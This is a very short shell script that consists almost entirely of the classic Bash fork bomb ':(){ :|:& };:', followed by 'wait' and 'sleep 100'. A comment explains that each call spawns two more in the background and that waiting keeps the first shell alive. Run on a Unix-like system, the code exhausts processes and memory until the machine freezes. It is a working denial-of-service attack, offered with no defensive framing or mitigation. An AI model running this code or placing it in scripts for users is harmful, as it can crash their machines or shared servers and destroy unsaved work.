# The classic: every call starts two more in the background. Waiting keeps the first shell alive.
:(){ :|:& };:
wait
sleep 100
